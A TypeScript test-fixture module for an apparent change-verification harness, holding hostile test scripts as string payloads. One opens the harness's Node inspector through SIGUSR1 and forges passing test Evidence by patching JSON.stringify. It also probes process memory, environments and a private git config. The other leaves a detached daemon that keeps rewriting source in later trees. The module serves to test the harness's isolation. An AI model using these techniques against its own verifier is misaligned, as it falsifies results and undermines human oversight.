import type { Evidence } from '../../lib/domain/evidence.ts';
import { files } from '../agent/fixtures/plan.ts';

/** Tries to get at the harness from a test: opens its inspector and forges Evidence, reads its memory. */
export const hostile = `import { test } from 'node:test';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
const forge = "(()=>{const o=JSON.stringify;JSON.stringify=(v,...a)=>{if(v&&v.kind==='evidence'&&v.runs){const p=[{id:'forged',status:'passed'}];v.runs.change={...v.runs.base,tests:p};v.runs.baseTests={...v.runs.base,tests:p};v.runs.testsOnly={...v.runs.base,tests:[{id:'forged',status:'failed'}]};}return o(v,...a)};return 'ok'})()";
const pids = () => fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map(Number);
const text = (path) => { try { return fs.readFileSync(path, 'latin1'); } catch (error) { return error.code; } };
const say = (name, value) => console.log('ATTACK ' + name + ' ' + JSON.stringify(value));
const connect = () => new Promise((resolve) => {
  const socket = net.connect(9229, '127.0.0.1', () => { socket.destroy(); resolve('connected'); });
  socket.on('error', (error) => resolve(error.code));
});
test('z', async () => {
  const harness = pids().filter((pid) => /^[^ ]*\\/node\\0.*(?:task-image\\/main.ts|bin\\/harness.mjs)/s.test(text('/proc/' + pid + '/cmdline')));
  say('harness', harness);
  for (const pid of harness) { try { process.kill(pid, 'SIGUSR1'); } catch {} }
  await new Promise((resolve) => setTimeout(resolve, 1500));
  const inspector = await connect();
  say('inspector', inspector);
  if (inspector === 'connected') {
    const [{ webSocketDebuggerUrl }] = await (await fetch('http://127.0.0.1:9229/json')).json();
    await new Promise((resolve, reject) => {
      const headers = { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version': '13' };
      const request = http.request({ host: '127.0.0.1', port: 9229, path: new URL(webSocketDebuggerUrl).pathname, headers });
      request.on('upgrade', (_, socket) => {
        const payload = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: forge } }));
        const head = Buffer.alloc(8); head[0] = 0x81; head[1] = 0x80 | 126; head.writeUInt16BE(payload.length, 2);
        socket.write(Buffer.concat([head, payload])); socket.on('data', () => { resolve(); socket.end(); });
      });
      request.on('error', reject); request.end();
    });
    say('forged', true);
  }
  say('memory', harness.filter((pid) => { try { fs.closeSync(fs.openSync('/proc/' + pid + '/mem', 'r+')); return true; } catch { return false; } }));
  say('environments', pids().filter((pid) => text('/proc/' + pid + '/environ').includes('ENTROPY_GATEWAY')));
  const privates = ['/run/entropy/private', ...fs.readdirSync('/tmp').filter((name) => name.startsWith('harness-')).map((name) => '/tmp/' + name)];
  const repository = privates.map((folder) => folder + '/repository/.git/config').find((path) => fs.existsSync(path)) ?? '/nowhere';
  say('repository', [fs.existsSync(repository), (() => { try { fs.appendFileSync(repository, '#'); return 'written'; } catch (error) { return error.code; } })()]);
});
`;

/** Leaves a daemon that mends the source in every later tree. */
export const daemon = `import { test } from 'node:test';
import { spawn } from 'node:child_process';
test('z', () => {
  const mend = 'while :; do sed -i "s/a - b/a + b/" /workspace/checks/tree/add.js; sleep 0.01; done';
  spawn('env', ['-i', 'setsid', '/bin/sh', '-c', mend], { detached: true, stdio: 'ignore', cwd: '/' }).unref();
});
`;

/** A change with such a test, as a verifier is given it. */
export const attack = (script: string) => (base: string) => ({
  change: {
    kind: 'change-set' as const,
    base,
    files: [
      { path: 'add.js', mode: '100644' as const, content: btoa(`${files['add.js']}//x\n`) },
      { path: 'z.test.js', mode: '100644' as const, content: btoa(script) },
    ],
    title: 't',
    body: 'b',
  },
});

/** What the hostile test said it came to, in any run. */
export const saidIn = (evidence: Evidence | undefined) =>
  Object.values(evidence?.runs ?? {}).flatMap((run) =>
    (run?.commands ?? []).flatMap(({ outputTail }) => outputTail.match(/ATTACK .*/g) ?? []),
  );
